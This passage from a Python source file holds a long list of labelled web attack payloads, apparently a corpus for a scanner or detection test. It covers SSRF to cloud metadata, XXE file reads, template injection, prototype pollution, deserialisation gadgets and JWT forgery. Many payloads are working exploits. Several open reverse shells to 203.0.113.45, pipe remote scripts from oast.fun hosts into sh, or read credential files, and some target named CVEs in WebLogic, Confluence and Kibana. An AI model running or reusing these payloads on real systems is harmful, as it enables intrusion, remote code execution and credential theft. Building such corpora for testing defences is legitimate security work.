     "https://cdn.example.com@127.0.0.1:8080/actuator/heapdump"),
    ("ssrf", "enclosed alphanumerics IP obfuscation", "json", "link",
     "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("ssrf", "DNS rebinding hostname to IMDS", "query", "url",
     "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "Java netdoc: scheme local file", "query", "u", "netdoc:///etc/passwd"),
    ("ssrf", "gopher SMTP relay through URL fetcher", "query", "url",
     "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cceo%40victim.com%3E%0D%0ARCPT%20TO%3A%3Cfinance%40victim.com%3E%0D%0ADATA%0D%0ASubject%3A%20wire%0D%0A%0D%0APay%20now%0D%0A.%0D%0AQUIT%0D%0A"),
    # --- SSRF: PDF / image renderers ---
    ("ssrf", "HTML-to-PDF iframe to IMDS", "json", "pdf",
     _j({"html": "<h1>Invoice</h1><iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"1000\" height=\"1000\"></iframe>", "format": "A4"})),
    ("ssrf", "wkhtmltopdf XHR file read", "body:text/html", "pdf/render",
     "<html><body><script>x=new XMLHttpRequest;x.onload=function(){document.write(this.responseText)};"
     "x.open('GET','file:///etc/passwd');x.send();</script></body></html>"),
    ("ssrf", "WeasyPrint link rel=attachment local file", "json", "invoice_html",
     "<link rel=\"attachment\" href=\"file:///proc/self/environ\"><p>Invoice #4411</p>"),
    ("ssrf", "headless Chrome meta refresh to DevTools port", "json", "report",
     _j({"title": "Q1", "content": "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9222/json/version\">"})),
    ("ssrf", "SVG image element fetching metadata", "body:image/svg+xml", "users/me/avatar",
     '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">'
     '<image xlink:href="http://169.254.169.254/latest/meta-data/hostname" width="200" height="200"/></svg>'),
    ("rce", "ImageTragick CVE-2016-3714 MVG upload", "raw", "",
     _multipart("/api/v1/images", "image", "photo.jpg", "image/jpeg", _MVG_RCE)),
    ("ssrf", "ImageMagick MVG image over remote URL", "raw", "",
     _multipart("/api/v1/images", "image", "banner.mvg", "image/jpeg", _MVG_SSRF)),
    # --- SSRF: OIDC / SAML discovery ---
    ("ssrf", "OIDC dynamic client registration internal URIs", "body:application/json", "oidc/register",
     _j({"application_type": "web", "redirect_uris": ["https://client.example.org/callback"], "client_name": "x",
         "logo_uri": "http://169.254.169.254/latest/meta-data/",
         "jwks_uri": "http://127.0.0.1:8080/admin/realms",
         "sector_identifier_uri": "http://localhost:9200/_cat/indices", "token_endpoint_auth_method": "client_secret_basic"})),
    ("ssrf", "OIDC request_uri fetched by authorization server", "path", "",
     "/auth/realms/master/protocol/openid-connect/auth?client_id=account&response_type=code&scope=openid"
     "&redirect_uri=https://app.example.com/cb&request_uri=http://169.254.169.254/latest/user-data"),
    ("ssrf", "OIDC discovery URL with fragment suffix bypass", "json", "sso",
     _j({"provider": "oidc", "issuer": "http://idp.internal", "discovery_url": "http://169.254.169.254/latest/user-data#/.well-known/openid-configuration"})),
    ("ssrf", "absolute-URI request line proxy abuse", "raw", "",
     "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
     + _UA + "\r\nAccept: */*\r\n\r\n"),
    ("ssrf", "routing-based SSRF via Host header", "raw", "",
     _raw("GET", "/latest/meta-data/iam/security-credentials/", [_UA, "Accept: */*"], host="169.254.169.254")),

    # --- XXE: SVG, Office XML, SOAP, SAML, misc ---
    ("xxe", "SVG avatar external entity file read", "body:image/svg+xml", "profile/avatar",
     '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
     '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1">'
     '<text font-size="16" x="0" y="16">&xxe;</text></svg>'),
    ("xxe", "SVG multipart upload expect:// entity", "raw", "",
     _multipart("/api/v1/media", "file", "logo.svg", "image/svg+xml",
                '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY cmd SYSTEM "expect://id">]>'
                '<svg xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">&cmd;</text></svg>')),
    ("xxe", "DOCX with OOB parameter entity in document.xml", "body:application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     "documents/import", _DOCX_XXE),
    ("xxe", "XLSX with entities in Content_Types and sharedStrings", "raw", "",
     _multipart("/api/v1/imports/contacts", "file", "contacts.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", _XLSX_XXE)),
    ("xxe", "Flat OPC Word XML document entity", "body:application/xml", "documents/convert",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
     '<!DOCTYPE pkg:package [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
     '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
     '<pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml">'
     '<pkg:xmlData><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
     "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>"),
    ("xxe", "SpreadsheetML 2003 import entity", "body:application/vnd.ms-excel", "import/xls",
     '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
     '<!DOCTYPE Workbook [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>\n'
     '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
     '<Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">&xxe;</Data></Cell></Row></Table></Worksheet></Workbook>'),
    ("xxe", "SOAP envelope with DOCTYPE file entity", "raw", "",
     _raw("POST", "/services/AccountService",
          ["Content-Type: text/xml; charset=utf-8", 'SOAPAction: "urn:getAccount"', "User-Agent: Apache-HttpClient/4.5.13 (Java/11.0.21)"],
          '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:acc="http://example.com/account">'
          "<soapenv:Header/><soapenv:Body><acc:getAccount><acc:id>&xxe;</acc:id></acc:getAccount></soapenv:Body></soapenv:Envelope>")),
    ("xxe", "SOAP 1.2 out-of-band parameter entity", "raw", "",
     _raw("POST", "/ws/OrderService",
          ['Content-Type: application/soap+xml; charset=utf-8; action="urn:submitOrder"', _UA],
          '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/hostname">'
          '<!ENTITY % dtd SYSTEM "http://x7k2.oast.fun/oob.dtd"> %dtd;]>'
          '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
          "<submitOrder><sku>A-1</sku><qty>&send;</qty></submitOrder></soap:Body></soap:Envelope>")),
    ("xxe", "SAMLResponse base64 with external DTD", "form", "SAMLResponse", _SAML_XXE),
    ("xxe", "SAML signature XSLT transform exfiltration", "form", "SAMLResponse", _SAML_XSLT),
    ("xxe", "SAML SOAP ArtifactResolve with entity", "body:text/xml", "saml/artifact",
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///opt/idp/conf/idp.properties">]>'
     '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>'
     '<samlp:ArtifactResolve xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_6c3a4f8b9c" Version="2.0" '
     'IssueInstant="2024-03-01T10:00:00Z"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&xxe;</saml:Issuer>'
     "<samlp:Artifact>AAQAAMh48/1oXIM+sDo7Dh2qMp1HM4IF5DaRNmDj6RdUmllwn9jJHyEgIi8=</samlp:Artifact>"
     "</samlp:ArtifactResolve></SOAP-ENV:Body></SOAP-ENV:Envelope>"),
    ("xxe", "error-based XXE via local docbookx.dtd", "body:application/xml", "orders",
     '<?xml version="1.0" ?><!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
     '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">'
     '<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">'
     "&#x25;eval;&#x25;error;'>%local_dtd;]><order><id>1</id></order>"),
    ("xxe", "XInclude in form parameter", "form", "productId",
     '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'),
    ("xxe", "JSON endpoint switched to XML content type", "raw", "",
     _raw("POST", "/api/v1/login", ["Content-Type: application/xml", "Accept: application/json", _UA],
          '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>'
          "<root><username>&xxe;</username><password>x</password></root>")),
    ("xxe", "UTF-16 encoded XXE evasion", "body:application/xml", "orders", _UTF16_XXE),
    ("xxe", "billion laughs entity expansion", "body:application/xml", "feed",
     '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
     '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
     '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
     '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
     '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]><lolz>&lol6;</lolz>'),
    ("xxe", "XML-RPC with php://filter entity", "body:text/xml", "xmlrpc",
     '<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php">]>'
     "<methodCall><methodName>pingback.ping</methodName><params><param><value><string>&src;</string></value></param></params></methodCall>"),
    ("xxe", "RSS feed import external entity", "body:application/rss+xml", "feeds/import",
     '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///home/app/.aws/credentials">]>'
     '<rss version="2.0"><channel><title>News</title><item><title>&xxe;</title><link>https://news.example.net/1</link></item></channel></rss>'),
    ("xxe", "GPX upload entity to cloud metadata", "body:application/gpx+xml", "activities/upload",
     '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE gpx [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>'
     '<gpx version="1.1" creator="Garmin Connect" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&meta;</name>'
     '<trkseg><trkpt lat="47.6" lon="-122.3"><ele>12</ele></trkpt></trkseg></trk></gpx>'),
    ("xxe", "Java jar: protocol in external entity", "body:application/xml", "reports",
     '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://203.0.113.45:8000/evil.jar!/x.txt">]><report><name>&x;</name></report>'),
    ("xxe", "XML string embedded in JSON field", "json", "import",
     _j({"format": "xml", "xml": "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/shadow\">]><contacts><c><n>&x;</n></c></contacts>"})),

    # --- SSTI: Jinja2 / Python engines ---
    ("ssti", "Jinja2 self.__init__ globals os.popen", "json", "template",
     "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti", "Jinja2 lipsum globals", "query", "name",
     '{{lipsum.__globals__["os"].popen("cat /etc/passwd").read()}}'),
    ("ssti", "Jinja2 attr filter hex-escaped underscores bypass", "form", "message",
     "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')"
     "|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"),
    ("ssti", "Jinja2 subclasses catch_warnings loop", "json", "subject",
     "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
     "{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}"),
    ("ssti", "Jinja2 payload in User-Agent rendered in admin log view", "header:User-Agent", "",
     "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}"),
    ("ssti", "Mako module os.system", "json", "footer", '${self.module.cache.util.os.system("id")}'),
    ("ssti", "Tornado template import os", "form", "comment", '{% import os %}{{ os.popen("whoami").read() }}'),
    # --- SSTI: PHP engines ---
    ("ssti", "Twig registerUndefinedFilterCallback exec", "json", "template",
     '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'),
    ("ssti", "Twig filter system", "query", "name", "{{['id']|filter('system')}}"),
    ("ssti", "Smarty system tag", "query", "tpl", "{system('id')}"),
    ("ssti", "Smarty writeFile web shell", "form", "description",
     "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"),
    # --- SSTI: Java engines ---
    ("ssti", "Freemarker Execute ?new()", "json", "template",
     '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }'),
    ("ssti", "Freemarker sandbox bypass via protection domain file read", "form", "body",
     "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
    ("ssti", "Velocity Runtime exec via class.forName", "json", "template",
     "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
     "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
     "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end"),
    ("rfi", "Confluence CVE-2019-3396 widget _template remote Velocity", "raw", "",
     _raw("POST", "/rest/tinymce/1/macro/preview",
          ["Content-Type: application/json; charset=utf-8", "Referer: https://wiki.example.com/pages/resumedraft.action?draftId=786457", _UA],
          _j({"contentId": "786457", "macro": {"name": "widget", "body": "", "params": {
              "url": "https://www.viddler.com/v/23464dc5", "width": "1000", "height": "1000",
              "_template": "ftp://203.0.113.45:8021/cmd.vm", "command": "id"}}}), host="wiki.example.com")),
    ("ptrav", "Confluence CVE-2019-3396 widget _template local file", "body:application/json", "tinymce/1/macro/preview",
     _j({"contentId": "786458", "macro": {"name": "widget", "body": "", "params": {
         "url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "width": "300", "height": "200",
         "_template": "file:///etc/passwd"}}})),
    ("ssti", "Thymeleaf Spring view name preprocessing in path", "path", "",
     '/doc/__${T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwn")}__::.x'),
    ("ssti", "Thymeleaf fragment expression in lang parameter", "query", "lang",
     "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x"),
    ("ssti", "Thymeleaf inlined expression", "json", "displayName",
     "[[${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}]]"),
    # --- SSTI: JavaScript engines ---
    ("ssti", "Handlebars split/sub constructor RCE", "json", "template",
     "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
     "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
     "{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}"
     "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti", "Nunjucks range.constructor RCE", "form", "name",
     "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('tail /etc/passwd')\")()}}"),
    ("ssti", "Pug interpolated function with _load", "json", "bio",
     "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('curl -s http://c2k4v9.oast.fun/p | sh')}()}"),
    ("ssti", "Pug unbuffered code line", "body:text/plain", "templates/preview",
     "p Welcome\n- var x = global.process.mainModule.require('child_process').execSync('id').toString()\np= x"),
    ("ssti", "EJS scriptlet child_process", "json", "message",
     "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    # --- SSTI: Ruby, Go, .NET, probes ---
    ("ssti", "ERB backtick execution", "query", "name", "<%= `id` %>"),
    ("ssti", "ERB IO.popen", "json", "greeting", "<%= IO.popen('curl -s http://c2k4v9.oast.fun/r | bash').readlines() %>"),
    ("ssti", "Go template Echo context File method", "query", "tmpl", '{{ .File "/etc/passwd" }}'),
    ("ssti", "Go template Sprig env secret leak", "json", "template", '{{ env "AWS_SECRET_ACCESS_KEY" }}:{{ env "DATABASE_URL" }}'),
    ("ssti", "Go text/template define XSS", "form", "name",
     '{{define "T1"}}<script>alert(document.domain)</script>{{end}}{{template "T1"}}'),
    ("ssti", "Razor Process.Start", "json", "body",
     '@System.Diagnostics.Process.Start("cmd.exe","/c powershell -nop -c iwr http://203.0.113.45/a.ps1|iex")'),
    ("ssti", "tplmap polyglot error probe", "query", "name", "${{<%[%'\"}}%\\."),
    ("ssti", "multi-engine arithmetic probe", "query", "q", "{{7*'7'}} ${7*7} <%= 7*7 %> #{7*7}"),

    # --- prototype pollution ---
    ("generic", "JSON __proto__ privilege flag", "json", "settings", _j({"__proto__": {"isAdmin": True}})),
    ("generic", "JSON constructor.prototype pollution", "json", "settings",
     _j({"constructor": {"prototype": {"isAdmin": True, "role": "admin"}}})),
    ("generic", "query-string __proto__ bracket pollution", "query", "__proto__[isAdmin]", "true"),
    ("generic", "query-string constructor[prototype] pollution", "query", "constructor[prototype][polluted]", "yes"),
    ("generic", "EJS outputFunctionName RCE gadget", "json", "profile",
     _j({"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('curl http://c2k4v9.oast.fun/$(id|base64)');x"}})),
    ("generic", "child_process spawn shell/NODE_OPTIONS gadget", "json", "config",
     _j({"__proto__": {"shell": "node", "argv0": "console.log(require('child_process').execSync('id').toString())//",
                       "NODE_OPTIONS": "--require /proc/self/cmdline"}})),
    ("generic", "fork execArgv --eval gadget", "json", "opts",
     _j({"constructor": {"prototype": {"execArgv": ["--eval=require('child_process').execSync('touch /tmp/pp')"]}}})),
    ("generic", "Kibana Timelion CVE-2019-7609 env pollution", "raw", "",
     _raw("POST", "/api/timelion/run", ["Content-Type: application/json", "kbn-version: 6.6.0", _UA],
          _j({"sheet": [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i>& /dev/tcp/203.0.113.45/6666 0>&1\\'\");process.exit()//')\n"
                        ".props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"],
              "time": {"from": "now-15m", "to": "now", "mode": "quick", "interval": "10s", "timezone": "UTC"}}),
          host="kibana.example.com:5601")),
    ("generic", "Pug AST block injection gadget", "json", "data",
     _j({"__proto__": {"block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id > /tmp/pp')"}}})),
    ("generic", "Handlebars AST Program gadget", "json", "data",
     _j({"__proto__": {"type": "Program", "body": [{"type": "MustacheStatement", "path": 0, "params": [
         {"type": "NumberLiteral", "value": "process.mainModule.require('child_process').execSync('id')"}],
         "loc": {"start": 0, "end": 0}}]}})),
    ("generic", "lodash template sourceURL gadget", "json", "merge",
     _j({"constructor": {"prototype": {"sourceURL": "\u2028\u2029\nreturn e => {return global.process.mainModule.constructor._load('child_process').execSync('id')}\n//"}}})),
    ("generic", "unicode-escaped __proto__ key evasion", "json", "prefs",
     r'{"\u005f\u005fproto\u005f\u005f":{"isAdmin":true,"canDelete":true}}'),
    ("generic", "nested __proto__ in deep settings merge", "json", "user",
     _j({"user": {"settings": {"notifications": {"__proto__": {"role": "admin"}}}}})),
    ("xss", "client-side prototype pollution to innerHTML sink", "path", "",
     "/?__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>"),
    ("generic", "Python class pollution via __globals__", "json", "update",
     _j({"__class__": {"__init__": {"__globals__": {"app": {"config": {"SECRET_KEY": "pwned"}}}}}})),

    # --- deserialisation: Python ---
    ("generic", "pickle RCE in base64 session cookie", "cookie", "session", "session=" + _b64(_PICKLE_P4)),
    ("generic", "pickle protocol 0 raw body reverse shell", "body:application/octet-stream", "cache/restore",
     _bytes_str(_PICKLE_P0)),
    ("generic", "PyYAML python/object/apply os.system", "body:application/x-yaml", "config",
     '!!python/object/apply:os.system ["curl -s http://c2k4v9.oast.fun/y | sh"]\n'),
    ("generic", "PyYAML subprocess.Popen new object", "form", "yaml",
     "!!python/object/new:subprocess.Popen\n- - sh\n  - -c\n  - id > /tmp/yaml\n"),
    # --- deserialisation: .NET ---
    ("generic", ".NET ViewState TextFormattingRunProperties (MAC disabled)", "form", "__VIEWSTATE",
     _viewstate("nslookup vs.x7k2.oast.fun")),
    ("generic", ".NET BinaryFormatter raw body", "body:application/octet-stream", "session/import",
     _bytes_str(_bf_textformatting("powershell -nop -w hidden -c iwr http://203.0.113.45/s.ps1|iex"))),
    ("generic", "Json.NET $type ObjectDataProvider Process.Start", "json", "",
     _j({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
         "MethodName": "Start",
         "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                              "$values": ["cmd", "/c certutil -urlcache -f http://203.0.113.45/b.exe %TEMP%\\b.exe && %TEMP%\\b.exe"]},
         "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}})),
    ("generic", "Json.NET $type AssemblyInstaller UNC DLL", "json", "settings",
     _j({"settings": {"theme": "dark", "provider": {"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a",
                                                    "Path": "file:///\\\\203.0.113.45\\share\\payload.dll"}}})),
    ("generic", "DotNetNuke CVE-2017-9822 DNNPersonalization XmlSerializer", "raw", "",
     _raw("GET", "/__", [_UA,
          'Cookie: DNNPersonalization=<profile><item key="key" type="System.Data.Services.Internal.ExpandedWrapper`2[[DotNetNuke.Common.Utilities.FileSystemUtils, DotNetNuke, Version=9.1.0.367, Culture=neutral, PublicKeyToken=null],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089">'
          '<ExpandedWrapperOfFileSystemUtilsObjectDataProvider xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
          "<ProjectedProperty0><ObjectInstance xsi:type=\"FileSystemUtils\"></ObjectInstance><MethodName>PullFile</MethodName><MethodParameters>"
          '<anyType xsi:type="xsd:string">http://203.0.113.45/shell.aspx</anyType><anyType xsi:type="xsd:string">C:\\inetpub\\wwwroot\\dotnetnuke\\shell.aspx</anyType>'
          "</MethodParameters></ProjectedProperty0></ExpandedWrapperOfFileSystemUtilsObjectDataProvider></item></profile>"],
          host="portal.example.com")),
    # --- deserialisation: Ruby ---
    ("generic", "Ruby Marshal Gem::Requirement gadget raw body", "body:application/octet-stream", "jobs/enqueue",
     _bytes_str(_ruby_marshal_gadget("curl -s http://c2k4v9.oast.fun/rb | sh"))),
    ("generic", "Ruby Marshal gadget base64 in cookie", "cookie", "_app_session",
     "_app_session=" + _b64(_ruby_marshal_gadget("id"))),
    ("generic", "Ruby YAML Gem::Requirement DependencyList gadget", "body:application/x-yaml", "settings/import",
     "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
     "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
     "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n"),
    ("generic", "Ruby YAML Net::WriteAdapter Gem::RequestSet chain", "body:text/yaml", "fixtures",
     "---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: curl -s http://c2k4v9.oast.fun/y2 | sh\n         method_id: :resolve\n"),
    # --- deserialisation: PHP ---
    ("php", "Laravel PendingBroadcast / Faker Generator gadget", "form", "data", _LARAVEL_RCE),
    ("php", "Guzzle FileCookieJar web shell write gadget", "json", "cart", _GUZZLE_FW1),
    ("php", "unserialize O:+ signed-length filter bypass in cookie", "cookie", "user",
     'O:+4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}'),
    ("php", "phar:// wrapper triggers metadata deserialisation", "query", "file",
     "phar:///var/www/html/uploads/avatars/8812.jpg/test.txt"),
    ("php", "compress.zlib://phar:// wrapper bypass in image URL", "json", "image",
     "compress.zlib://phar:///var/www/storage/app/public/invoices/inv_4411.pdf/x"),
    # --- deserialisation: Java ---
    ("java", "Java URLDNS serialized object in cookie", "cookie", "rememberMe", "rememberMe=" + _b64(_URLDNS)),
    ("java", "Java serialized object raw body", "body:application/x-java-serialized-object", "invoker/JMXInvokerServlet",
     _bytes_str(_URLDNS)),
    ("java", "JSF javax.faces.ViewState Java serialized", "form", "javax.faces.ViewState", _b64(_URLDNS)),
    ("java", "Jackson polymorphic JdbcRowSetImpl JNDI", "json", "",
     _j(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://jd0s9x.oast.fun:1389/Exploit", "autoCommit": True}])),
    ("java", "fastjson @type JdbcRowSetImpl", "json", "",
     _j({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.45:1099/Exploit", "autoCommit": True})),
    ("java", "fastjson 1.2.47 java.lang.Class cache bypass", "json", "",
     _j({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
         "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://jd0s9x.oast.fun:1389/Obj", "autoCommit": True}})),
    ("java", "XStream sorted-set EventHandler ProcessBuilder", "body:application/xml", "orders",
     "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
     "<string>bash</string><string>-c</string><string>curl -s http://c2k4v9.oast.fun/xs|sh</string></command></target>"
     "<action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("java", "SnakeYAML ScriptEngineManager URLClassLoader", "json", "config",
     _j({"config": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.45:8000/yaml-payload.jar\"]]]]"})),
    ("java", "WebLogic CVE-2017-10271 XMLDecoder in WorkContext", "raw", "",
     _raw("POST", "/wls-wsat/CoordinatorPortType", ["Content-Type: text/xml", _UA],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
          '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0_151" class="java.beans.XMLDecoder">'
          '<object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3">'
          '<void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
          '<void index="2"><string>bash -i &gt;&amp; /dev/tcp/203.0.113.45/4444 0&gt;&amp;1</string></void></array>'
          '<void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
          host="weblogic.example.com:7001")),
    # --- deserialisation: Node ---
    ("generic", "node-serialize IIFE in profile cookie (CVE-2017-5941)", "cookie", "profile", "profile=" + _NODE_SERIALIZE),
    ("generic", "node-serialize IIFE in JSON body", "json", "",
     _j({"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('nc -e /bin/sh 203.0.113.45 4444')}()"})),

    # --- JWT attacks ---
    ("generic", "JWT alg none admin claims in Authorization", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "none", "typ": "JWT"}, {"sub": "1", "name": "admin", "role": "admin", "iat": 1709287200})),
    ("generic", "JWT alg NoNe case variant in cookie", "cookie", "token",
